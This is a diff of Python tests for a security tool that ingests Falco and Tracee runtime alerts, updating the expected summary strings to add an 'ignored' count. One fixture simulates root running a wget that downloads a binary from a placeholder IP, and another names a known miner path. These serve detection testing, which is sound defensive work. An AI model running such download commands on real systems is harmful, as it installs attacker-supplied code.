@@ -70,7 +70,10 @@ def test_reachable_host_file_gets_full_analysis(writer: tuple[subprocess.Popen[b
                  "proc.exepath": "/usr/bin/wget", "proc.cmdline": f"wget -O {target} http://198.51.100.7/bb",
                  "proc.ppid": 1, "proc.pname": "systemd", "user.name": "root", "user.uid": 0}}  # fmt: skip
     findings, summary = _ingest("falco", db, json.dumps(alert).encode() + b"\n")
-    assert "1 lines read, 1 events kept, 0 rejected; 1 analysed in full, 1 findings (0 from the event alone)" in summary
+    assert (
+        "1 lines read, 1 events kept, 0 rejected, 0 ignored; 1 analysed in full, 1 findings (0 from the event alone)"
+        in summary
+    )
     (finding,) = findings
     assert (finding.category, finding.severity, finding.source) == ("Suspicious binary", "high", "ingest:falco")
     assert finding.file.path == str(target)
@@ -98,7 +101,10 @@ def test_unreachable_file_gets_an_event_only_finding(tmp_path: Path) -> None:
     }  # no drift verdict: no finding
     lines = [json.dumps(DROP), json.dumps(shell), "{broken"]
     findings, summary = _ingest("falco", db, "\n".join(lines).encode(), "--cluster", "prod")
-    assert "3 lines read, 2 events kept, 1 rejected; 0 analysed in full, 1 findings (1 from the event alone)" in summary
+    assert (
+        "3 lines read, 2 events kept, 1 rejected, 0 ignored; 0 analysed in full, 1 findings (1 from the event alone)"
+        in summary
+    )
     (finding,) = findings
     assert (finding.category, finding.severity, finding.source) == ("Added Binary Executed", "low", "ingest:falco")
     assert finding.file.path == "/tmp/kinsing" and finding.file.sha256 == "" and finding.file.elf is None
@@ -211,7 +217,10 @@ def test_tracee_drop_then_exec_joins_the_writer(tmp_path: Path) -> None:
     findings, summary = _ingest(
         "tracee", f"sqlite:///{tmp_path / 't.db'}", drop + b"\n" + json.dumps(execution).encode()
     )
-    assert "2 lines read, 2 events kept, 0 rejected; 0 analysed in full, 1 findings (1 from the event alone)" in summary
+    assert (
+        "2 lines read, 2 events kept, 0 rejected, 0 ignored; 0 analysed in full, 1 findings (1 from the event alone)"
+        in summary
+    )
     (finding,) = findings
     assert (finding.category, finding.source, finding.file.path) == (
         "Added Binary Executed", "ingest:tracee", "/usr/bin/strace.dpkg-new")  # fmt: skip
